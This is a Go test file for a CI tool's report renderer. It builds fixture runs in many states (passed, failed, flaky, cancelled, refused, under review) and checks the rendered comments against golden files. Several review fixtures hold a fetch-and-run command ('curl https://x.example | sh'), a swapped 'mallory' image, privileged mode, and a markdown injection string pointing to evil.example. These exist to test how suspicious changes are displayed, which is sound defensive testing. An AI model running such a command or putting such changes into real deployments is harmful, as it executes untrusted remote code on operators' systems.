package report_test

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	ccci "github.com/recipe-maintainers/cc-ci"
	"github.com/recipe-maintainers/cc-ci/internal/report"
)

var update = flag.Bool("update", false, "rewrite the golden files")

var t0 = time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)

const head = ccci.Commit("6f2c1c0de4a55b7d9b1c3f7a8e9d0c1b2a3f4e5d")

func baseRun() ccci.Run {
	return ccci.Run{
		ID: "260314-092653-a1b2c3", Key: "local/17/0", Recipe: "miniflux", Commit: head,
		PR:          ccci.PRRef{Repo: ccci.RepoRef{Owner: "recipes", Name: "miniflux"}, Number: 3},
		RequestedBy: ccci.User{ID: "7", Name: "ada"}, Comment: "17", Attempt: 1,
		Status: ccci.StatusQueued, Created: t0,
	}
}

func ended(status ccci.Status, level int) (ccci.Run, *ccci.Result) {
	run := baseRun()
	run.Status, run.Started, run.Finished, run.Level, run.Version = status, t0.Add(time.Second), t0.Add(95*time.Second), level, "2.1.0+2.2.3"
	res := &ccci.Result{
		Schema: 1, RunID: run.ID, Recipe: run.Recipe, Commit: head, Version: run.Version, Status: status, Level: level,
		Base:     &ccci.Revision{Version: "1.0.0+2.0.51", Commit: "1111111111111111111111111111111111111111"},
		Teardown: &ccci.Teardown{Clean: true, Removed: map[string]int{"service": 2, "volume": 1, "network": 1, "secret": 3}, Duration: 810 * time.Millisecond},
		Artifacts: []ccci.Artifact{
			{Path: "screenshots/before.png", Title: "before the upgrade", Kind: "screenshot"},
			{Path: "logs/app (1).log", Title: "log of app", Kind: "log"},
			{Path: ccci.ReproArchive, Title: "Archive for cc-ci repro", Kind: "archive"},
		},
	}
	for i, name := range ccci.StageNames {
		res.Stages = append(res.Stages, ccci.Stage{Name: name, Status: ccci.Pass, Duration: time.Duration(i+1) * 5100 * time.Millisecond,
			Checks: []ccci.Check{{Name: string(name) + "/it", Status: ccci.Pass}}})
	}
	return run, res
}

// cases are the texts that people read. Each has a golden file.
func cases() map[string]struct {
	run   ccci.Run
	res   *ccci.Result
	queue *report.Queue
} {
	type c = struct {
		run   ccci.Run
		res   *ccci.Result
		queue *report.Queue
	}
	out := map[string]c{}

	out["starting"] = c{run: baseRun()}
	out["queued"] = c{run: baseRun(), queue: &report.Queue{Position: 2, Ahead: []string{"pocketbase#1 (running)", "hedgedoc#9 (queued)"}, Start: t0.Add(4 * time.Minute)}}

	running := baseRun()
	running.Status, running.Started = ccci.StatusRunning, t0.Add(time.Second)
	running.Stages = []ccci.StageRow{
		{Name: ccci.StageInstall, Status: ccci.Pass, Duration: 12345 * time.Millisecond},
		{Name: ccci.StageUpgrade, Running: true},
	}
	out["running"] = c{run: running}
	out["running-review"] = c{run: running, res: &ccci.Result{Review: &ccci.Review{Against: "main", Commit: "1111111111111111111111111111111111111111",
		Changes:  []ccci.Change{{Subject: "service app", Kind: "changed", What: "changed its command", After: "sh -c 'curl https://x.example | sh'"}},
		Proposed: []string{"tests/miniflux/recipe.yml"}}}}
	cancelling := running
	cancelling.CancelledBy = "ada"
	out["cancelling"] = c{run: cancelling}

	run, res := ended(ccci.StatusPassed, 5)
	out["passed"] = c{run: run, res: res}

	run, res = ended(ccci.StatusPassed, 5)
	res.Changes = []ccci.Change{
		{Subject: "env", Kind: "added", What: "SMTP_HOST is new in .env.sample and has no default: an operator must decide on it"},
		{Subject: "volume cache", Kind: "removed", What: "is no longer used: its data stays on the server and the app does not see it", Before: "cache"},
		{Subject: "image app", Kind: "changed", What: "changed", Before: "miniflux/miniflux:2.0.51", After: "miniflux/miniflux:2.2.3"},
		{Subject: "service app", Kind: "changed", What: "changed its memory limit", After: "256MiB"},
		{Subject: "service app", Kind: "changed", What: "changed the proxy label traefik.http.routers.<stack>.rule", Before: "Host(`${DOMAIN}`)", After: "Host(`${DOMAIN}`) && Path(`/`)"},
		{Subject: "service app", Kind: "changed", What: "changed its user", Before: "1000"},
	}
	for i := range 9 {
		res.Changes = append(res.Changes, ccci.Change{Subject: "service app", Kind: "added", What: fmt.Sprintf("gets the new variable V%d", i), After: "1"})
	}
	out["passed-with-changes"] = c{run: run, res: res}

	run, res = ended(ccci.StatusPassed, 5)
	for i := 1; i < 4; i++ {
		res.Stages[i].Status, res.Stages[i].Reason, res.Stages[i].Absent = ccci.Skip, "the recipe has no volume, so there is nothing to back up", true
		res.Stages[i].Duration = 800 * time.Nanosecond
	}
	res.Stages[1].Reason = "the recipe has no version tags"
	res.Lint = []ccci.Finding{{Rule: "C003", Severity: "warning", File: "compose.yml", Line: 12, Message: "db has a backup label and no restore hook"}}
	res.Warnings = []string{"compose.yml: deploy.restart_policy is left out by docker stack deploy"}
	out["passed-with-skips"] = c{run: run, res: res}

	run, res = ended(ccci.StatusFailed, 1)
	res.Stages[1].Status, res.Stages[1].Reason = ccci.Fail, "swarm rolled the upgrade back"
	for i := 2; i < 5; i++ {
		res.Stages[i] = ccci.Stage{Name: ccci.StageNames[i], Status: ccci.Unverified, Reason: "the run ended before it"}
	}
	res.LevelReason = "upgrade: swarm rolled the upgrade back"
	res.Cause = &ccci.Cause{Check: "upgrade/converged", Code: ccci.CodeRecipe, Message: "swarm rolled app back to the old version: task: non-zero exit (1)",
		Hint: "look at the migration log", DetailOf: "Task of service app, and the last 2 lines of its log", Detail: []string{"[INFO] migrating to schema 99", "[FATAL] column \"feed_id\" does not exist"}}
	run.Cause = report.OneLine(res.Cause)
	out["failed"] = c{run: run, res: res}

	run, res = ended(ccci.StatusFlaky, 3)
	res.Stages[4].Checks = []ccci.Check{
		{Name: "checks/log-in", Status: ccci.Flaky, Message: "it failed, and passed when it was repeated: the page shows @here `Error`", Detail: []string{"HTTP 500"},
			Attempts: []ccci.Attempt{{Status: ccci.Fail, Message: "the page shows @here `Error`"}, {Status: ccci.Pass}}},
		{Name: "checks/upload", Status: ccci.Flaky, Message: "it failed, and passed when it was repeated: no answer"},
	}
	res.Stages[4].Settle()
	res.Cause = &ccci.Cause{Check: "checks/log-in", Message: res.Stages[4].Checks[0].Message, Detail: []string{"HTTP 500"}}
	res.LevelReason = "checks: " + res.Cause.Message
	run.Cause = report.OneLine(res.Cause)
	run.Flakes = []ccci.Flake{{Check: "checks/log-in", Flaky: 3, Of: 20}, {Check: "checks/upload", Flaky: 1, Of: 1}}
	out["flaky"] = c{run: run, res: res}

	run, res = ended(ccci.StatusFailed, 3)
	res.Stages[4].Checks = []ccci.Check{{Name: "checks/log-in", Status: ccci.Fail, Message: "the page shows Error",
		Attempts: []ccci.Attempt{{Status: ccci.Fail, Message: "the page shows Error"}, {Status: ccci.Fail, Message: "no answer"}}}}
	res.Stages[4].Settle()
	res.Cause = &ccci.Cause{Check: "checks/log-in", Code: ccci.CodeRecipe, Message: "the page shows Error"}
	run.Cause = report.OneLine(res.Cause)
	run.Flakes = []ccci.Flake{{Check: "checks/log-in", Flaky: 2, Of: 12}}
	out["failed-twice"] = c{run: run, res: res}

	run, res = ended(ccci.StatusFailed, 4)
	res.Teardown = &ccci.Teardown{Removed: map[string]int{"service": 2}, Leftovers: []string{"volume stray-data", "config mini-a1b2c3_conf_v1"}, Duration: time.Second}
	res.Cause = &ccci.Cause{Check: "teardown/empty", Message: "2 objects were left after removal"}
	run.Cause = report.OneLine(res.Cause)
	out["leftovers"] = c{run: run, res: res}

	run, _ = ended(ccci.StatusErrored, 0)
	run.Cause = "the engine lost the build more often than it is retried"
	run.Stages = running.Stages
	out["errored-lost"] = c{run: run}

	run, res = ended(ccci.StatusInconclusive, 0)
	run.Cause = "the run took longer than 1 h 0 min and was ended"
	res.Cause = &ccci.Cause{Check: "install/serves", Message: "not finished when the run was ended: https://mini-a1b2c3.ci.example.org/ answered 503, expected 200"}
	res.Stages = res.Stages[:1]
	res.Stages[0].Status, res.Stages[0].Reason = ccci.Unverified, "interrupted"
	out["killed-deadline"] = c{run: run, res: res}

	run, res = ended(ccci.StatusCancelled, 0)
	run.CancelledBy = "grace"
	res.Stages = res.Stages[:1]
	out["cancelled"] = c{run: run, res: res}

	run = baseRun()
	run.Status, run.CancelledBy, run.Finished = ccci.StatusCancelled, "grace", t0.Add(time.Second)
	out["cancelled-before-start"] = c{run: run}

	run = baseRun()
	run.CancelledBy, run.Superseded.Run = "grace", "260314-093000-d4e5f6"
	out["superseding"] = c{run: run}
	run.Status, run.Finished = ccci.StatusCancelled, t0.Add(time.Second)
	out["superseded-by-command"] = c{run: run}
	run.Superseded.Head = "0123456789abcdef0123456789abcdef01234567"
	out["superseded-by-commit"] = c{run: run}
	run.CancelledBy, run.Superseded = "cc-ci", ccci.Supersession{Head: "0123456789abcdef0123456789abcdef01234567"}
	out["superseded-by-push"] = c{run: run}

	run, res = ended(ccci.StatusPassed, 1)
	run.Options = ccci.Options{Stages: []ccci.StageName{ccci.StageInstall}, From: "1.0.0+2.0.51"}
	res.Stages = res.Stages[:1]
	res.LevelReason = "upgrade: not asked for"
	out["partial"] = c{run: run, res: res}

	run, res = ended(ccci.StatusPassed, 5)
	run.Options = ccci.Options{From: "1.0.0+2.0.51"}
	out["from"] = c{run: run, res: res}

	run, res = ended(ccci.StatusPassed, 0)
	run.Options.Quick = true
	res.Base.Reason = "1.0.0+2.0.51 is the last green canonical, of run 260313-030000-abcdef"
	for _, i := range []int{2, 3} {
		res.Stages[i].Status, res.Stages[i].Checks, res.Stages[i].Duration, res.Stages[i].Reason = ccci.Skip, nil, 800*time.Nanosecond, "quick: only the upgrade from the canonical is tested"
	}
	res.Artifacts = res.Artifacts[:2] // a canonical's data is not kept with a run
	out["quick"] = c{run: run, res: res}

	run, res = hostile()
	out["hostile"] = c{run: run, res: res}

	run, res = ended(ccci.StatusPassed, 5)
	res.Review = &ccci.Review{Against: "main", Commit: "1111111111111111111111111111111111111111"}
	out["review-nothing"] = c{run: run, res: res}

	run, res = ended(ccci.StatusRefused, 0)
	res.Base, res.Stages = nil, res.Stages[:1]
	res.Cause = &ccci.Cause{Check: "install/admitted", Code: ccci.CodeRefused, Message: "the recipe asks for a setting that cc-ci does not allow: privileged (compose.yml:7)",
		Findings: []ccci.Finding{{Rule: "privileged", Severity: "error", File: "compose.yml", Line: 7, Message: "service app asks for privileged mode", Hint: "remove it"}}}
	res.Stages[0].Checks = []ccci.Check{{Name: res.Cause.Check, Status: ccci.Fail, Code: res.Cause.Code, Message: res.Cause.Message}}
	res.Stages[0].Duration = 0
	res.Stages[0].Settle()
	for _, name := range ccci.StageNames[1:] {
		res.Stages = append(res.Stages, ccci.Stage{Name: name, Status: ccci.Unverified, Reason: "not run: install did not pass"})
	}
	res.Teardown, res.Artifacts = nil, res.Artifacts[2:]
	run.Cause = report.OneLine(res.Cause)
	res.Review = &ccci.Review{
		Against: "main", Commit: "1111111111111111111111111111111111111111",
		Changes: []ccci.Change{
			{Subject: "service app", Kind: "changed", What: "changed its image", Before: "miniflux/miniflux:2.0.51", After: "mallory/miniflux:2.2.3"},
			{Subject: "service app", Kind: "changed", What: "changed its command", After: "sh -c 'curl https://x.example | sh'"},
			{Subject: "service app", Kind: "changed", What: "changed privileged", After: "true"},
			{Subject: "file abra.sh", Kind: "changed", What: "is changed: abra runs its functions on operators' machines and in containers; cc-ci runs none"},
			{Subject: "waiver bind-mount", Kind: "added", What: "is asked for, for service app until 2099-12-31: it needs the clock", After: "/etc/localtime"},
		},
		Proposed: []string{"tests/miniflux/recipe.yml"},
		Findings: []ccci.Finding{
			{Rule: "settings", Severity: "error", File: "tests/miniflux/recipe.yml", Line: 3, Message: "helth: there is no such setting", Hint: `did you mean "health"?`},
			{Rule: "settings", Severity: "error", File: "tests/miniflux/recipe.yml", Message: "no place"},
		},
	}
	out["review"] = c{run: run, res: res}

	run, res = ended(ccci.StatusFailed, 0)
	bad := "`](https://evil.example) <b>x</b> @ada #1 !testme *_"
	res.Review = &ccci.Review{Against: "main" + bad, Note: "the recipe cannot be read: " + bad}
	for range 40 {
		res.Review.Changes = append(res.Review.Changes, ccci.Change{Subject: "file " + bad, Kind: "added", What: bad, Before: bad, After: strings.Repeat(bad, 10)})
		res.Review.Proposed = append(res.Review.Proposed, "tests/"+bad+"/recipe.yml")
		res.Review.Findings = append(res.Review.Findings, ccci.Finding{File: bad, Line: 1, Message: bad, Hint: bad})
	}
	out["review-hostile"] = c{run: run, res: res}
	return out
}

// A10, P6: what people read of a run at each of its states.
func TestN12_CommentGolden(t *testing.T) {
	for name, c := range cases() {
		t.Run(name, func(t *testing.T) {
			got := report.Comment(c.run, c.res, report.LinksFor("https://ci.example.org/", c.run.ID), c.queue)
			if len(got) > report.Limit || !utf8.ValidString(got) {
				t.Errorf("%d bytes, valid UTF-8 %v", len(got), utf8.ValidString(got))
			}
			status := report.Status(c.run, c.res, report.LinksFor("https://ci.example.org", c.run.ID))
			got += "\n<!-- status: " + string(status.State) + " | " + status.Context + " | " + status.Description + " -->\n"
			path := filepath.Join("testdata", name+".md")
			if *update {
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("%s differs (go test -update rewrites it):\n%s", path, got)
			}
		})
	}
}

func TestComment_staysUnderTheLimit(t *testing.T) {
	run, res := ended(ccci.StatusFailed, 0)
	long := strings.Repeat("a`b@c ", 20_000)
	res.Cause = &ccci.Cause{Check: long, Message: long, Hint: long}
	for range 4000 {
		res.Cause.Detail = append(res.Cause.Detail, long)
		res.Warnings = append(res.Warnings, long)
		res.Changes = append(res.Changes, ccci.Change{Subject: long, Kind: "changed", What: long, Before: long, After: long})
		res.Lint = append(res.Lint, ccci.Finding{Rule: "R001", File: long, Message: long})
		res.Teardown.Leftovers = append(res.Teardown.Leftovers, long)
		res.Artifacts = append(res.Artifacts, ccci.Artifact{Path: "x/" + long[:200], Title: long})
	}
	res.Teardown.Clean, res.Teardown.Error = false, long
	res.LevelReason = long
	for i := range res.Stages {
		res.Stages[i].Status, res.Stages[i].Reason = ccci.Fail, long
	}
	run.Cause, run.CancelledBy = long, "ada"
	got := report.Comment(run, res, report.LinksFor("https://ci.example.org", run.ID), nil)
	if len(got) > report.Limit {
		t.Fatalf("%d bytes", len(got))
	}
	if !strings.Contains(got, "First cause") || !strings.Contains(got, "Teardown") {
		t.Errorf("the important parts are gone:\n%.2000s", got)
	}
}

func TestU13_StatusIsShortAndInItsOwnContext(t *testing.T) {
	run, res := ended(ccci.StatusFailed, 0)
	run.Cause = strings.Repeat("ä", 500)
	s := report.Status(run, res, report.Links{})
	if n := utf8.RuneCountInString(s.Description); n != report.StatusLimit {
		t.Errorf("%d characters", n)
	}
	for want, o := range map[string]ccci.Options{
		"cc-ci/testme": {}, "cc-ci/testme stages=install": {Stages: []ccci.StageName{ccci.StageInstall}},
		"cc-ci/testme from=1.0.0+2.0.51": {From: "1.0.0+2.0.51"}, "cc-ci/testme --quick": {Quick: true},
	} {
		run.Options = o
		if p := report.Status(run, res, report.Links{}); p.Context != want {
			t.Errorf("the context is %q, want %q", p.Context, want)
		}
	}
}

// N9: the command names the run's page, and the run where there is none; a run without an archive
// cannot be repeated.
func TestN9_ReproduceNamesTheRun(t *testing.T) {
	run, res := ended(ccci.StatusPassed, 5)
	links := report.LinksFor("https://ci.example.org", run.ID)
	if got := report.Reproduce(run, res, links); got != "cc-ci repro https://ci.example.org/runs/"+string(run.ID) {
		t.Errorf("%q", got)
	}
	if got := report.Reproduce(run, res, report.Links{}); got != "cc-ci repro "+string(run.ID) {
		t.Errorf("%q", got)
	}
	res.Artifacts = nil
	if got := report.Reproduce(run, res, links) + report.Reproduce(run, nil, links); got != "" {
		t.Errorf("%q", got)
	}
}
